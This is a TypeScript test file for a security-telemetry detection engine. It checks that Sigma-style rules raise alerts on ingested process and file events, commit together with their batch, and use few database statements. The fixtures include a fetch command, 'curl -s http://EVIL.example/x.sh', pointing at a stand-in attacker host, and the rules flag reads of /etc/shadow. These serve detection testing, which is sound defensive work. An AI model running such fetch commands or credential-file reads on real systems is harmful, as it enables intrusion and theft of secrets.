import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { KyselyPlugin } from 'kysely';
import { type CompiledRule, compileRule, huntSql, parseRule, recordAlerts } from '../../src/detect/index.js';
import { ingestBatch } from '../../src/ingest/index.js';
import type { Store } from '../../src/store/index.js';
import { DIALECTS, withStore } from '../helpers/store-dialects.js';
import { proc, T0 } from '../ingest/host-fixture.js';
import { huntFixture } from './detect-fixture.js';

function compiled(store: Store, id: string, category: string, selection: string): CompiledRule {
  const c = compileRule(
    parseRule(
      `title: rule ${id}\nid: ${id}\nauthor: Ann Author\nlevel: high\nlogsource: { product: linux, category: ${category} }\ndetection:\n  sel:\n${selection}\n  condition: sel\n`,
      `${id}.yml`,
    ),
    store.caps,
  );
  assert.equal(c.status, 'ok');
  return c as CompiledRule;
}

for (const dialect of DIALECTS) {
  test(`[${dialect}] live alerts: each batch's new rows are matched once, in its transaction, with author and batch`, (t) =>
    withStore(t, dialect, async (store) => {
      const rules = [
        compiled(store, 'curl', 'process_creation', '    Image|endswith: /curl'),
        compiled(store, 'shadow', 'file_event', '    TargetFilename: /etc/shadow'),
      ];
      const { host, hashes } = await huntFixture(store, (trx, b) =>
        recordAlerts(trx, rules, b).then(() => {}),
      );
      // A later batch that opens nothing the rules match adds no alert (the curl row is not re-matched).
      const b3 = host.next([{ type: 'process_start', t: T0 + 20_000_000, proc: proc(300, 30) }]);
      assert.equal(
        (
          await ingestBatch(store, b3.bytes, {
            principal: host.hostId,
            onApplied: (trx, b) => recordAlerts(trx, rules, b).then(() => {}),
          })
        ).status,
        'accepted',
      );
      const rows = await store.db.selectFrom('alerts').selectAll().orderBy('id').execute();
      assert.deepEqual(
        rows.map((r) => [
          r.rule,
          r.summary,
          r.severity,
          r.author,
          r.source_table,
          Number(r.pid),
          Number(r.batch_seq),
          r.batch_hash,
        ]),
        [
          ['curl', 'rule curl', 'high', 'Ann Author', 'processes', 101, 1, hashes[0]],
          ['shadow', 'rule shadow', 'high', 'Ann Author', 'file_opens', 101, 2, hashes[1]],
        ],
      );
      assert.equal(JSON.parse(rows[0].detail ?? '{}').cmdline, 'curl -s http://EVIL.example/x.sh');
    }));

  for (const asWritten of [true, false])
    test(`[${dialect}] a batch costs ${asWritten ? 'no read of the rows ingest wrote' : 'one read of its rows for all tables'}, and with matches one more statement per table and the insert (PostgreSQL: one), not one per rule`, (t) =>
      withStore(t, dialect, async (store) => {
        // Three rules match the curl row of batch 1 — one by a regular expression, which only the
        // engine decides on PostgreSQL — and one matches the /etc/shadow row of batch 2.
        const rules = [
          compiled(store, 'curl', 'process_creation', '    Image|endswith: /curl'),
          compiled(store, 'evil', 'process_creation', '    CommandLine|contains: evil.example'),
          compiled(store, 'evil-re', 'process_creation', "    CommandLine|re: 'EVIL\\.exa[m]ple/'"),
          compiled(store, 'nothing-re', 'process_creation', "    CommandLine|re: 'curl -s http://n[o]where'"),
          compiled(store, 'shadow', 'file_event', '    TargetFilename: /etc/shadow'),
        ];
        const statements: number[] = [];
        const counting = (): KyselyPlugin => {
          statements.push(0);
          return {
            transformQuery: (args) => {
              statements[statements.length - 1]++;
              return args.node;
            },
            transformResult: async (args) => args.result,
          };
        };
        await huntFixture(store, (trx, b) =>
          recordAlerts(
            trx.withPlugin(counting()),
            rules,
            asWritten ? b : { hostId: b.hostId, seq: b.seq },
          ).then(() => {}),
        );
        // Per batch: one read of its rows in every table the rules use (processes, file opens: one
        // UNION ALL) — none when ingest hands them over as written and the rules read no field only
        // the store has; then, on SQLite, one read of the matched rows per table with matches (with
        // the regex rules' SQL as columns) and one insert; on PostgreSQL (rowJson) one INSERT …
        // SELECT that reads them (its regexes decided in JavaScript on these ASCII rows).
        const perBatch = (store.caps.rowJson === null ? 3 : 2) - (asWritten ? 1 : 0);
        assert.deepEqual(statements, [perBatch, perBatch]);
        const rows = await store.db.selectFrom('alerts').selectAll().orderBy('id').execute();
        const bySql = await huntSql(store.db, rules, { limit: 1000 });
        assert.deepEqual(rows.map((r) => r.rule).sort(), ['curl', 'evil', 'evil-re', 'shadow']);
        assert.deepEqual(
          rows.map((r) => [r.rule, Number(r.t), Number(r.row_id), Number(r.batch_seq), r.batch_hash]).sort(),
          bySql
            .map((a) => [
              a.rule_id,
              a.time,
              Number(a.table === 'processes' ? a.process_id : a.file_id),
              a.batch_seq,
              a.batch_hash,
            ])
            .sort(),
        );
        // The alert's row is the one hunt prints, column for column.
        for (const r of rows) {
          const a = bySql.find((x) => x.rule_id === r.rule)!;
          const {
            time,
            host,
            pid,
            rule_id,
            title,
            level,
            author,
            batch_seq,
            batch_hash,
            host_id,
            table,
            ...row
          } = a;
          assert.deepEqual(JSON.parse(r.detail ?? '{}'), JSON.parse(JSON.stringify(row)), r.rule);
          assert.equal(r.detail, JSON.stringify(row), `${r.rule}: the same text`);
        }
      }));

  test(`[${dialect}] live alerts commit with their batch or not at all`, (t) =>
    withStore(t, dialect, async (store) => {
      const rules = [compiled(store, 'curl', 'process_creation', '    Image|endswith: /curl')];
      await assert.rejects(
        huntFixture(store, async (trx, b) => {
          await recordAlerts(trx, rules, b);
          throw new Error('server died between the alerts and the commit');
        }),
        /server died/,
      );
      const count = async (table: 'alerts' | 'batches' | 'processes') =>
        Number(
          (
            await store.db
              .selectFrom(table)
              .select((eb) => eb.fn.countAll().as('n'))
              .executeTakeFirst()
          )?.n,
        );
      assert.deepEqual([await count('alerts'), await count('batches'), await count('processes')], [0, 0, 0]);
    }));
}
